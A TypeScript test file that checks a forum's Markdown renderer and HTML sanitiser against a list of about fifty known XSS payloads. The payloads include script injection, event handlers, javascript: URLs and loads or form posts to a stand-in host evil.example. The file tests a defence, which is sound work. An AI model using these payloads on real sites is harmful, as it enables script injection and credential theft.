import { describe, expect, it } from 'vitest';
import { excerptOf, plainTextOf, renderPostBody, sanitisePostHtml } from './forum.markdown.js';

/**
 * Known XSS payloads (after the OWASP XSS filter evasion cheat sheet and the html5sec.org
 * vectors), each written the ways a member could post it: as raw HTML inside Markdown, and as
 * HTML handed straight to the sanitiser.
 */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<img src=`javascript:alert(1)`>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="https://ok.example/" onclick="alert(1)">click</a>',
  '<a href="https://ok.example/" style="position:fixed;top:0">overlay</a>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<table background="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><script>alert(1)</script>',
  '<a href="https://ok.example/" target="_blank">new window</a>',
  '<p class="admin" id="main">spoof</p>',
];

const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'strong',
  'b',
  'em',
  'i',
  'del',
  's',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'a',
  'hr',
]);

/**
 * Every tag of a sanitised post is on the allow-list, carries no attribute but a link's `href`
 * (http, https or mailto) and `rel`, and text never opens a tag (`<` only ever starts one of
 * the allowed tags, so a payload left as text is inert).
 */
function expectHarmless(html: string): void {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    const match = /^<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>$/.exec(tag);
    expect(match, `unexpected markup ${tag}`).not.toBeNull();
    const [, name = '', attributes = ''] = match ?? [];
    expect(ALLOWED_TAGS.has(name), `tag ${name}`).toBe(true);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      expect(
        name === 'a' && (attribute === 'href' || attribute === 'rel'),
        `${name}[${attribute}]`,
      ).toBe(true);
      if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/[^/]|mailto:)/i);
      if (attribute === 'rel') expect(value).toBe('nofollow ugc noopener noreferrer');
    }
  }
}

describe('post bodies: Markdown rendered and sanitised with an allow-list', () => {
  it.each(PAYLOADS)('a known XSS payload posted as Markdown is harmless: %s', (payload) => {
    expectHarmless(renderPostBody(`Hello\n\n${payload}\n\nBye`));
    expectHarmless(renderPostBody(payload));
  });

  it.each(PAYLOADS)(
    'a known XSS payload handed to the sanitiser as HTML is harmless: %s',
    (payload) => {
      expectHarmless(sanitisePostHtml(payload));
    },
  );

  it('Markdown links with scripts or data in them lose their href', () => {
    for (const link of [
      '[x](javascript:alert(1))',
      '[x](JAVASCRIPT:alert(1))',
      '[x](data:text/html,<script>alert(1)</script>)',
      '[x](&#106;avascript:alert(1))',
      '![x](https://evil.example/pixel.gif)',
      '<javascript:alert(1)>',
    ]) {
      expectHarmless(renderPostBody(link));
    }
  });

  it('keeps the structure members write: emphasis, lists, quotes, code and safe links', () => {
    const html = renderPostBody(
      '# Title\n\n**bold** and *soft*\n\n- one\n- two\n\n> quoted\n\n`code`\n\n[NHS](https://www.nhs.uk)',
    );
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<em>soft</em>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain(
      '<a href="https://www.nhs.uk" rel="nofollow ugc noopener noreferrer">NHS</a>',
    );
    // A heading inside a post would break the page's outline: it becomes a paragraph.
    expect(html).not.toMatch(/<h[1-6]/);
    expect(html).toContain('<p>Title</p>');
  });

  it('shows text that looks like HTML as text', () => {
    const html = renderPostBody('I typed 3 < 4 and <b>bold</b> & "quotes"');
    expect(html).toContain('3 &lt; 4');
    expect(html).toContain('&amp;');
    expect(plainTextOf(html)).toBe('I typed 3 < 4 and bold & "quotes"');
  });

  it('makes short excerpts at a word boundary', () => {
    expect(excerptOf('short')).toBe('short');
    const long = 'word '.repeat(100).trim();
    const excerpt = excerptOf(long, 42);
    expect(excerpt.length).toBeLessThanOrEqual(43);
    expect(excerpt.endsWith('word…')).toBe(true);
  });
});
